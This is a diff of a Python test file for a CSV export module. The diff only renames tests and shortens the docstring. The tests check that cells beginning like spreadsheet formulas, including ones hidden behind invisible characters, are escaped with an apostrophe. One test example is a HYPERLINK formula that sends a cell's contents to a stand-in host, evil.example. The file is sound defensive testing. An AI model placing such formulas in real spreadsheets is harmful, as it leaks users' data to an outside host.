@@ -1,4 +1,4 @@
-"""Tables for spreadsheets: what was written is read back, and nothing is a formula."""
+"""CSV parses back, and no cell is a formula."""
 
 import csv
 import io
@@ -19,35 +19,35 @@ def read(body):
 
 
 @pytest.mark.parametrize("sign", SIGNS)
-def test_a_cell_that_begins_like_a_formula_is_written_behind_an_apostrophe(sign):
+def test_formula_cell_is_prefixed_with_an_apostrophe(sign):
     assert escape_formula(f"{sign}1+1") == f"'{sign}1+1"
 
 
 @pytest.mark.parametrize("cell", [" =1", "\u200b=1", "\u3000＝1", "\ufeff@A1", "\u00a0-1"])
-def test_what_is_passed_over_hides_no_formula(cell):
+def test_skipped_characters_do_not_hide_a_formula(cell):
     assert escape_formula(cell) == f"'{cell}"
 
 
 @pytest.mark.parametrize("cell", ["", "Ann", "a=b", "O'Neill", "name@example.org", "2026-11-25"])
-def test_other_cells_stay_as_they_are(cell):
+def test_other_cells_are_unchanged(cell):
     assert escape_formula(cell) == cell
 
 
-def test_every_cell_stands_in_quotes_and_lines_end_as_spreadsheets_want():
+def test_every_cell_is_quoted_and_lines_end_with_crlf():
     body = b"".join(lines([["Name", ""], ['The "best"', "é"]]))
 
     assert body == '\ufeff"Name",""\r\n"The ""best""","é"\r\n'.encode()
 
 
-def test_an_empty_table_is_empty():
+def test_table_without_rows_is_empty():
     assert b"".join(lines([])) == b""
 
 
-def test_a_letter_that_cannot_be_written_does_not_end_the_table():
+def test_lone_surrogate_does_not_abort_the_table():
     assert read(b"".join(lines([["a\ud800b"], ["c"]]))) == [["a?b"], ["c"]]
 
 
-def test_lines_come_one_by_one_as_rows_are_read():
+def test_lines_are_streamed_while_rows_are_loaded():
     asked = []
 
     def rows():
@@ -64,7 +64,7 @@ def test_lines_come_one_by_one_as_rows_are_read():
 @settings(max_examples=200)
 @given(st.lists(st.lists(cells, min_size=2, max_size=3), min_size=1, max_size=4))
 @example([['=HYPERLINK("https://evil.example?"&A1)', "\r\n=1"]])
-def test_any_table_is_read_back_with_at_most_an_apostrophe_more(table):
+def test_any_table_parses_back_with_at_most_an_apostrophe_added(table):
     back = read(b"".join(lines(table)))
 
     assert [[cell.removeprefix("'") for cell in row] for row in back] == [
@@ -75,5 +75,5 @@ def test_any_table_is_read_back_with_at_most_an_apostrophe_more(table):
             assert cell.lstrip(" \u200b\u3000")[:1] not in tuple(SIGNS)
 
 
-def test_a_line_as_long_as_a_form_is_one_cell():
+def test_line_as_long_as_a_form_is_one_cell():
     assert tables.cells("a" * 200_000, ";") == ["a" * 200_000]
